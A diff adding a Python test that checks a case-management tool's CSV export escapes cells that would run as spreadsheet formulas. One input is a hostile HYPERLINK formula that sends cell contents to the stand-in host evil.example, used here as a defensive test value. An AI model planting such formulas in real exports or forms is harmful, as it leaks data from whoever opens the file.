@@ -127,3 +127,17 @@ def test_cli_purge_rejects_a_bad_time(runtime, monkeypatch, capsys):
     monkeypatch.setenv("SAMVERKAN_CONFIG", str(EXAMPLE))
     assert main(["cases", "purge", "--now", "tomorrow"]) == 2
     assert "--now 'tomorrow' is not an ISO-8601 time" in capsys.readouterr().err
+
+
+def test_csv_export_does_not_let_text_run_as_a_formula(engine, example_config):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'
+    register(engine, example_config, a_report(description=hostile, contact="+46 70 123 45 67"), local(2027, 2, 1, 9))
+    register(engine, example_config, a_report(description="@SUM(1+1)"), local(2027, 2, 1, 9))
+    register(engine, example_config, a_report(description="-2+3"), local(2027, 2, 1, 9))
+    with session_scope(engine) as session:
+        rows = list(csv.DictReader(io.StringIO(export_cases(session, 2027, "csv"))))
+        records = json.loads(export_cases(session, 2027, "json"))
+    assert [row["description"] for row in rows] == ["'" + hostile, "'@SUM(1+1)", "'-2+3"]
+    assert rows[0]["contact"] == "'+46 70 123 45 67"
+    assert rows[0]["number"] == "VMKF 2027-0001"  # ordinary text is left alone
+    assert records[0]["description"] == hostile  # JSON is not read by spreadsheets: unchanged
